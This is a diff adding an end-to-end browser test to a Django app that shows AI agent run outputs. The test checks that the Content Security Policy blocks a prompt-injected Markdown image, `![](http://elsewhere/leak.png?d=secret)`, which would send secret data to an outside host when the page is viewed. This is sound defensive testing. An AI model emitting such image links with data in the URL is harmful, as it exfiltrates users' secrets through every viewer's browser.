@@ -203,3 +203,51 @@ def test_every_page_has_no_serious_accessibility_violation(
     page.get_by_role("button", name="Log out").click()
     page.goto(f"{server.url}/accounts/login/")
     axe(page, f"login ({width}, {scheme})")
+
+
+def test_the_content_security_policy_keeps_output_images_and_scripts_to_the_site(
+    server: Server,
+    log_in: Callable[[Any], Page],
+    bob: Any,
+    fay: Any,
+    acme: Any,
+    password: str,
+    replay: Any,
+) -> None:
+    """Prompt-injected Markdown like `![](http://elsewhere/leak.png?d=secret)` makes every
+    viewer's browser fetch it, unless the page forbids images from elsewhere."""
+    from tests.wire import Answer
+
+    replay.on("GET", ".*", Answer(status=200, headers={"content-type": "image/png"}))
+    run = launch(fay, bob)
+    run.mark_completed(
+        proof="status_read",
+        output=f"# Findings\n\n![chart]({replay.url}/leak.png?d=secret)\n\nThe end.",
+    )
+    page = log_in(bob)
+    violations: list[str] = []
+    page.on(
+        "console",
+        lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None,
+    )
+    page.goto(f"{server.url}/runs/{run.pk}/")
+    expect(page.locator(".run-output")).to_contain_text("The end.")
+    expect(page.locator("body")).to_have_attribute("data-ws", "open")
+    assert replay.received == []  # the image was never fetched
+    assert any("img-src" in v for v in violations)  # because the policy said no
+    # Every page of the product works under the policy: no script or style refused.
+    violations.clear()
+    for path in (f"/teams/{acme.pk}/runs/", f"/teams/{acme.pk}/dashboard/"):
+        page.goto(server.url + path)
+        expect(page.locator("body")).to_have_attribute("data-ws", re.compile("open|none"))
+    from django.contrib.auth import get_user_model
+
+    operator = get_user_model().objects.create_superuser("operator", password=password)
+    admin = log_in(operator)
+    admin.on(
+        "console",
+        lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None,
+    )
+    admin.goto(f"{server.url}/admin/runs/run/")
+    expect(admin.locator("#result_list")).to_be_visible()
+    assert violations == []
